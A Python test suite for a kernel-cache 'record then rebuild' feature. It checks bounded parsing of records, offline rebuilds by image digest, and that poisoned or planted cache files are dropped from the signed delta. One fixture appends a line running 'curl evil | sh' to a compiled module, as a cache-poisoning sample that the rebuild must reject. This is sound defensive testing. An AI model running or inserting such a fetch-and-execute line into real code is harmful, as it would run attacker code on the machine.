"""Record, then rebuild (issue 42 item 1): the replica records what it compiled that the build had
not (request classes, the engine's keys, its paths and sha256s as claims, never bytes); the
rebuild runs the image by digest with no network and fake weights, replays the record, and only
what it compiled becomes the delta (origin rebuilt, builder named); a claim it did not reproduce
is dropped and named, and a poisoned claim never reaches the delta. The container is a fake
here (a directory holding the image's baked caches); bench/capture_cpu.py runs the real one."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import urllib.error
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from kernelbake.cli import main
from kernelbake.contract.delta import DELTA_MANIFEST, DeltaManifest, Origin
from kernelbake.contract.record import MAX_REQUESTS, CaptureRecord, InvalidRecord, RequestClass
from kernelbake.contract.target import TargetConfig
from kernelbake.errors import BadInput, EnvironmentProblem
from kernelbake.runner import Result
from kernelbake.runtime.capture import replay
from kernelbake.runtime.capture.collect import collect
from kernelbake.runtime.capture.record import record
from kernelbake.runtime.serve import preflight as pf
from kernelbake.signing.delta import load_dir
from kernelbake.signing.rebuild import rebuild
from tests.runtime.test_capture import NEW, NEW_TRITON, ClassEngine, _fresh, _gain, engine, target
from tests.support.runtime_target import runtime_env

__all__ = ["engine", "target"]  # fixtures

IMAGE = "127.0.0.1:5000/kb/tiny@sha256:" + "c" * 64
CLASS = {"prompt": "hello", "max_tokens": 8, "logprobs": 20, "top_k": 3}
POISON = b"\nimport os; os.system('curl evil | sh')\n"


def _record(
    tmp_path: Path, target: TargetConfig, *, poison: bool = False, unreproduced: bool = False
) -> Path:
    """What ``capture record`` writes in a replica that compiled for CLASS (and, with
    ``poison``, had a line appended to what it compiled; with ``unreproduced``, holds a file
    no rebuild makes)."""
    root = Path(target.cache_root)
    _gain(root)
    if poison:
        with (root / NEW).open("ab") as fh:
            fh.write(POISON)
    if unreproduced:
        (root / "triton" / "tkey9").mkdir(parents=True)
        (root / "triton" / "tkey9" / "planted.so").write_bytes(b"planted")
    out = tmp_path / "record.json"
    record(runtime_env(tmp_path), out, [CLASS], replica="replica-0")
    shutil.rmtree(root / "triton" / "tkey9", ignore_errors=True)
    _fresh(root)
    return out


class FakeDocker:
    """``docker`` for the rebuild: a "container" is a copy of the image's cache root (its baked
    caches); the replay compiles what the engine compiles for CLASS (the clean bytes); collect
    is the real ``capture collect`` run against that copy."""

    def __init__(self, tmp_path: Path, target: TargetConfig, compiles: dict[str, bytes]) -> None:
        self.tmp_path, self.target, self.compiles = tmp_path, target, compiles
        self.root = tmp_path / "container" / "cache"
        self.out = tmp_path / "container" / "out"
        self.calls: list[list[str]] = []
        self.replayed: list[dict[str, Any]] = []

    def __call__(self, argv: Sequence[str], **_kw: Any) -> Result:
        argv = list(argv)
        self.calls.append(argv)
        verb = argv[1]
        if verb == "run":
            shutil.copytree(self.target.cache_root, self.root)
            mount = argv[argv.index("-v") + 1].split(":")[0]
            self.record = CaptureRecord.from_json(Path(mount).read_bytes())
        elif verb == "exec" and "replay" in argv:
            self.replayed = [{**b, "prompt": p} for wave in self.record.sends() for b, p in wave]
            for rel, data in self.compiles.items():
                (self.root / rel).parent.mkdir(parents=True, exist_ok=True)
                (self.root / rel).write_bytes(data)
            return Result(tuple(argv), 0, "kernelbake capture: replayed 1 request classes on m (0.10 s)\n")
        elif verb == "exec" and "collect" in argv:
            collect(runtime_env(self.tmp_path), self.out, root=self.root)
        elif verb == "exec" and argv[3] == "test":
            return Result(tuple(argv), 0 if (self.out / DELTA_MANIFEST).exists() else 1)
        elif verb == "cp":
            shutil.copytree(self.out, argv[3])
        return Result(tuple(argv), 0)


def test_record_keeps_request_classes_and_claims_but_no_bytes(
    tmp_path: Path, target: TargetConfig, engine: ClassEngine
) -> None:
    path = _record(tmp_path, target)
    doc = json.loads(path.read_text())
    assert doc["requests"] == [{"body": CLASS, "prompt_tokens": 0}] and doc["replica"] == "replica-0"
    assert doc["waves"] == [{"requests": [[0, 1]], "source": "operator", "compiled": []}]
    assert doc["claims"]["inductor"]["engine_keys"] == ["fkey1"]
    assert doc["claims"]["triton"]["engine_keys"] == ["tkey1"]
    claimed = {f["path"]: f["sha256"] for k in doc["claims"].values() for f in k["files"]}
    assert claimed[NEW] == hashlib.sha256(b"compiled").hexdigest()
    # A claim, not a copy: nothing but the record was written.
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == [
        "pinned-manifest.json",
        "record.json",
        "target.json",
    ]
    with pytest.raises(BadInput, match="exists"):
        record(runtime_env(tmp_path), path, [CLASS])


def test_a_record_is_bounded_untrusted_input() -> None:
    with pytest.raises(InvalidRecord, match=r"not a capture record|schema"):
        CaptureRecord.from_json(b"[]")
    text = json.loads(_minimal().to_json())

    def refused(requests: list[Any], waves: list[Any], match: str) -> None:
        with pytest.raises(InvalidRecord, match=match):
            CaptureRecord.from_json(json.dumps({**text, "requests": requests, "waves": waves}))

    one = [{"requests": [[0, 1]], "source": "operator"}]
    refused([{"body": {"prompt": "x", "max_tokens": 10**6}}], one, r"requests\[0\]: max_tokens")
    refused([{"body": {"prompt": "x"}}] * (MAX_REQUESTS + 1), one, "more than a record may hold")
    refused([{"body": {"prompt": "x", "stream": True}}], one, "stream")
    refused([{"body": {"max_tokens": 4}}], one, "needs a prompt")
    refused([{"body": {"prompt": [1, 2]}, "prompt_tokens": 2}], one, "carries no prompt")
    refused([{"body": {}, "prompt_tokens": 10**9}], one, "prompt_tokens")
    refused([{"body": {"prompt": "x"}}], [{"requests": [[0, 257]], "source": "served"}], "more than 256")
    refused([{"body": {"prompt": "x"}}], [{"requests": [[1, 1]], "source": "served"}], "class 1 is not")
    refused([{"body": {"prompt": "x"}}], [], r"requests\[0\]: in no wave")
    refused([{"body": {"prompt": "x"}}], [{"requests": [[0, 1]], "source": "x"}], "not a capture record")
    refused(
        [{"body": {}, "prompt_tokens": 100_000}], [{"requests": [[0, 30]], "source": "served"}], "made-up"
    )
    text["claims"] = {"inductor": {"files": [{"path": "inductor/../../x", "size": 1, "sha256": "a" * 64}]}}
    refused([], [], "leaves the cache root")


def test_a_record_of_the_first_schema_is_read_as_the_operators_classes() -> None:
    doc = {**json.loads(_minimal().to_json()), "schema": 1, "requests": [CLASS]}
    del doc["waves"]
    old = CaptureRecord.from_json(json.dumps(doc))
    assert [json.loads(c.body) for c in old.requests] == [CLASS] and old.sources() == {
        "served": 0,
        "operator": 1,
    }
    assert list(old.sends()) == [[({k: v for k, v in CLASS.items() if k != "prompt"}, "hello")]]


def _minimal() -> CaptureRecord:
    from kernelbake.contract.key import parse_key

    key = parse_key(
        "kb1:engine=vllm;engine_version=0.32.0;torch=2.13.0;triton=3.9.0;cuda=none;flashinfer=none;"
        "python=3.11;arch=x86_64;device=cpu;driver_floor=none;model=local/tiny-llama;revision=r;"
        "model_path=/models/tiny-llama;dtype=float32;quantization=none;tp=1;pp=1;ep=1;max_model_len=2048;"
        "max_num_batched_tokens=128;compilation=44136fa355b3678a;engine_env=4f53cda18c2baa0c;kernelbake=0.1.0"
    )
    return CaptureRecord(
        key=key, base_manifest="sha256:" + "b" * 64, replica="", requests=(), waves=(), claims=()
    )


def test_the_cli_records_and_refuses_a_request_that_is_not_one(
    tmp_path: Path,
    target: TargetConfig,
    engine: ClassEngine,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("KERNELBAKE_UNSAFE_TARGET", str(tmp_path / "target.json"))
    _gain(Path(target.cache_root))
    out = tmp_path / "r.json"
    assert main(["capture", "record", "--out", str(out), "--request", json.dumps(CLASS)]) == 0
    said = capsys.readouterr().out
    assert (
        "recorded 1 request classes in 1 batches (0 noted by serve as they compiled, 1 given with --request)"
        in said
    )
    assert "and 2 new files" in said and "no bytes are kept" in said and "no request classes" not in said
    assert main(["capture", "record", "--out", str(tmp_path / "bare.json")]) == 0
    said = capsys.readouterr().out
    assert "no request classes: serve noted no batch that compiled" in said
    assert "the rebuild replays none" in said
    with pytest.raises(SystemExit) as exc:
        main(["capture", "record", "--out", str(tmp_path / "s.json"), "--request", "[1]"])
    assert exc.value.code == 2 and "a request is a JSON object" in capsys.readouterr().err


def test_replay_sends_each_class_once_to_the_loopback_and_refuses_another_images_record(
    tmp_path: Path, target: TargetConfig, engine: ClassEngine
) -> None:
    path = _record(tmp_path, target)
    sent: list[tuple[str, str, Any]] = []
    answers = iter([OSError("refused"), {"data": [{"id": "/models/tiny-llama"}]}])

    def fetch(method: str, url: str, body: dict[str, Any] | None, _timeout: float) -> Any:
        sent.append((method, url, body))
        if method == "GET":
            answer = next(answers)
            if isinstance(answer, Exception):
                raise answer
            return answer
        return {"choices": [{}]}

    done = replay.replay(
        replay.load(runtime_env(tmp_path), path), port=8123, fetch=fetch, sleep=lambda _s: None
    )
    posts = [s for s in sent if s[0] == "POST"]
    assert posts == [
        (
            "POST",
            "http://127.0.0.1:8123/v1/completions",
            {**CLASS, "model": "/models/tiny-llama", "stream": False},
        )
    ]
    assert done.model == "/models/tiny-llama" and done.failed == ()
    other = tmp_path / "other.json"
    doc = json.loads(path.read_text())
    doc["base_manifest"] = "sha256:" + "1" * 64
    other.write_text(json.dumps(doc))
    with pytest.raises(BadInput, match="rebuild it from the image the replica ran"):
        replay.load(runtime_env(tmp_path), other)


def test_replay_names_a_refused_request_and_gives_up_on_a_server_that_never_answers(
    tmp_path: Path, target: TargetConfig, engine: ClassEngine
) -> None:
    rec = replay.load(runtime_env(tmp_path), _record(tmp_path, target))

    def refusing(method: str, url: str, body: Any, _t: float) -> Any:
        if method == "GET":
            return {"data": [{"id": "m"}]}
        raise urllib.error.HTTPError(url, 400, "bad", {}, None)  # type: ignore[arg-type]

    assert replay.replay(rec, fetch=refusing).failed == ("0.0: HTTP 400",)

    # vLLM's refusal says which field and why (the H200 capture run of 2026-12-05 lost a class to
    # "when using `logprob_token_ids`, `logprobs` must be set."): it is named, on one line, bounded.
    said = {"error": {"message": "when using `logprob_token_ids`,\n`logprobs` must be set.", "code": 400}}

    def explaining(method: str, url: str, body: Any, _t: float) -> Any:
        if method == "GET":
            return {"data": [{"id": "m"}]}
        answer = io.BytesIO(json.dumps(said).encode())
        raise urllib.error.HTTPError(url, 400, "Bad Request", {}, answer)  # type: ignore[arg-type]

    assert replay.replay(rec, fetch=explaining).failed == (
        "0.0: HTTP 400: when using `logprob_token_ids`, `logprobs` must be set.",
    )
    said = {"message": "x" * 10_000}
    (long,) = replay.replay(rec, fetch=explaining).failed
    assert len(long) < 260 and long.endswith("…")
    said = ["not", "an", "object"]  # type: ignore[assignment]
    assert replay.replay(rec, fetch=explaining).failed == ("0.0: HTTP 400",)

    def down(method: str, url: str, body: Any, _t: float) -> Any:
        raise OSError("connection refused")

    with pytest.raises(EnvironmentProblem, match="did not answer"):
        replay.replay(rec, fetch=down, ready_timeout=0.0)


def test_the_rebuild_runs_the_image_by_digest_offline_and_signs_only_what_it_compiled(
    tmp_path: Path, target: TargetConfig, engine: ClassEngine
) -> None:
    path = _record(tmp_path, target, poison=True, unreproduced=True)
    docker = FakeDocker(tmp_path, target, {NEW: b"compiled", NEW_TRITON: b"cubin"})
    done = rebuild(path, image=IMAGE, out=tmp_path / "rebuilt", builder="cpu-builder-1", runner=docker)
    (run,) = [c for c in docker.calls if c[1] == "run"]
    assert run[run.index("--network") : run.index("--network") + 2] == ["--network", "none"]
    assert run[-3:] == [IMAGE, "--load-format", "dummy"], "the image by digest, fake weights"
    assert docker.replayed == [CLASS]
    assert any(c[1:3] == ["rm", "-f"] for c in docker.calls), "the container is removed"
    # The poisoned module: the rebuild's clean bytes are in the delta, the replica's are named.
    delta, entries = load_dir(tmp_path / "rebuilt")
    assert dict((p, b) for p, b, _m, _t in entries) == {NEW: b"compiled", NEW_TRITON: b"cubin"}
    assert POISON not in (tmp_path / "rebuilt" / NEW).read_bytes()
    assert done.differed == (NEW,) and done.reproduced == (NEW_TRITON,)
    assert done.dropped == ("triton/tkey9/planted.so",) and done.extra == ()
    said = "\n".join(done.lines())
    assert "dropped triton/tkey9/planted.so: the rebuild did not produce it" in said
    assert f"rebuilt {NEW} with other bytes" in said
    assert delta.origin is Origin.REBUILT and delta.rebuild is not None
    assert delta.rebuild.builder == "cpu-builder-1" and delta.rebuild.image == "sha256:" + "c" * 64
    assert delta.rebuild.record == CaptureRecord.from_json(path.read_bytes()).digest()
    assert delta.rebuild.dropped == ("triton/tkey9/planted.so",)
    assert done.per_kind["inductor"]["same_engine_keys"] is True
    assert done.per_kind["inductor"]["same_bytes"] == 0 and done.per_kind["triton"]["same_bytes"] == 1
    # The next replica merges it and says who rebuilt it.
    shutil.copytree(tmp_path / "rebuilt", tmp_path / "delta")
    digest = "sha256:" + hashlib.sha256((tmp_path / "delta" / DELTA_MANIFEST).read_bytes()).hexdigest()
    v = pf.preflight(runtime_env(tmp_path, KERNELBAKE_DELTA_DIGEST=digest), engine=engine)
    assert v.delta is not None and v.delta.used and v.delta.origin == "rebuilt"
    assert "(rebuilt by cpu-builder-1)" in v.delta.line()
    assert (Path(target.cache_root) / NEW).read_bytes() == b"compiled"


def test_a_rebuild_that_compiles_nothing_writes_nothing_and_a_tag_is_refused(
    tmp_path: Path, target: TargetConfig, engine: ClassEngine
) -> None:
    path = _record(tmp_path, target)
    docker = FakeDocker(tmp_path, target, {})
    done = rebuild(path, image=IMAGE, out=tmp_path / "rebuilt", builder="b", runner=docker)
    assert done.out is None and not (tmp_path / "rebuilt").exists()
    assert set(done.dropped) == {NEW, NEW_TRITON} and "nothing to push" in done.lines()[0]
    with pytest.raises(BadInput, match="by digest"):
        rebuild(path, image="127.0.0.1:5000/kb/tiny:v1", out=tmp_path / "x", builder="b", runner=docker)


def test_a_replica_collected_delta_says_so_and_serve_names_it_unsafe(
    tmp_path: Path, target: TargetConfig, engine: ClassEngine
) -> None:
    _gain(Path(target.cache_root))
    done = collect(runtime_env(tmp_path), tmp_path / "collected")
    assert done.delta.origin is Origin.REPLICA and done.delta.rebuild is None
    assert json.loads((tmp_path / "collected" / DELTA_MANIFEST).read_text())["origin"] == "replica"
    _fresh(Path(target.cache_root))
    shutil.copytree(tmp_path / "collected", tmp_path / "delta")
    digest = "sha256:" + hashlib.sha256((tmp_path / "delta" / DELTA_MANIFEST).read_bytes()).hexdigest()
    v = pf.preflight(runtime_env(tmp_path, KERNELBAKE_DELTA_DIGEST=digest), engine=engine)
    assert v.delta is not None and v.delta.used
    assert "UNSAFE: the bytes a replica wrote, not rebuilt" in v.delta.line()
    assert v.to_json()["delta"]["origin"] == "replica"


def test_origin_and_rebuild_go_together() -> None:
    from kernelbake.contract.delta import InvalidDelta, Rebuild

    base = _minimal()
    with pytest.raises(InvalidDelta, match="go together"):
        DeltaManifest(
            key=base.key, base_image=None, base_manifest=base.base_manifest, files=(), origin=Origin.REBUILT
        )
    with pytest.raises(InvalidDelta, match=r"rebuild\.image"):
        DeltaManifest(
            key=base.key,
            base_image=None,
            base_manifest=base.base_manifest,
            files=(),
            origin=Origin.REBUILT,
            rebuild=Rebuild(builder="b", image="latest", record="sha256:" + "1" * 64),
        )
    doc = json.loads(
        DeltaManifest(key=base.key, base_image=None, base_manifest=base.base_manifest, files=()).to_json()
    )
    doc["origin"] = "trusted"
    with pytest.raises(InvalidDelta, match="origin 'trusted' is not one of rebuilt, replica"):
        DeltaManifest.from_json(json.dumps(doc))


def test_a_warm_start_tells_the_engine_where_to_note_what_it_compiles(
    tmp_path: Path, target: TargetConfig, engine: ClassEngine
) -> None:
    env = runtime_env(tmp_path)
    assert env.miss_notes == tmp_path / "scratch" / "kernelbake-misses.jsonl"
    assert pf.preflight(env, engine=engine).env["KERNELBAKE_MISS_NOTES"] == str(env.miss_notes)
    cold = pf.preflight(runtime_env(tmp_path, KERNELBAKE_CACHE="off"), engine=engine)
    assert "KERNELBAKE_MISS_NOTES" not in cold.env, "a cold start has nothing to miss"


def test_record_takes_the_batches_serve_noted_and_the_replay_sends_them_as_batches(
    tmp_path: Path, target: TargetConfig, engine: ClassEngine
) -> None:
    from kernelbake.runtime.engines.vllm import misses

    env = runtime_env(tmp_path)
    noted = RequestClass.of({"max_tokens": 8, "temperature": 0.7, "logprobs": 20}, prompt_tokens=30)
    notes = misses.Notes(env.miss_notes, misses.events_path(env.miss_notes))
    notes.note({noted: 2}, ["triton _topk_log_softmax_kernel 5f2c"])
    smuggled = {"body": {"prompt": "my secret prompt", "max_tokens": 4}, "prompt_tokens": 3, "copies": 1}
    with env.miss_notes.open("a") as fh:
        fh.write("not json\n")
        fh.write(json.dumps({"wave": [smuggled], "compiled": []}) + "\n")
        fh.write(json.dumps({"wave": [{**smuggled, "body": {}, "copies": 10**6}]}) + "\n")
    _gain(Path(target.cache_root))
    done = record(env, tmp_path / "record.json", [CLASS], replica="replica-0")
    rec = done.record
    assert rec.sources() == {"served": 1, "operator": 1} and len(rec.requests) == 2
    assert rec.waves[0].compiled == ("triton _topk_log_softmax_kernel 5f2c",)
    assert "my secret prompt" not in (tmp_path / "record.json").read_text()
    said = "\n".join(done.lines())
    assert "(1 noted by serve as they compiled, 1 given with --request)" in said
    assert said.count("not a noted wave") == 3 and "kernelbake-misses.jsonl:2:" in said
    sent: list[dict[str, Any]] = []

    def fetch(method: str, url: str, body: dict[str, Any] | None, _t: float) -> Any:
        if method == "GET":
            return {"data": [{"id": "m"}]}
        sent.append(body or {})
        return {"choices": [{}]}

    done_replay = replay.replay(replay.load(env, tmp_path / "record.json"), fetch=fetch)
    assert done_replay.requests == 3 and len(done_replay.seconds) == 2
    made_up = [b for b in sent if isinstance(b["prompt"], list)]
    assert len(made_up) == 2 and all(len(b["prompt"]) == 30 and b["logprobs"] == 20 for b in made_up)
    assert all(b["return_tokens_as_token_ids"] is True for b in made_up)
    assert made_up[0]["prompt"] != made_up[1]["prompt"]
    assert sent[-1] == {**CLASS, "model": "m", "stream": False}
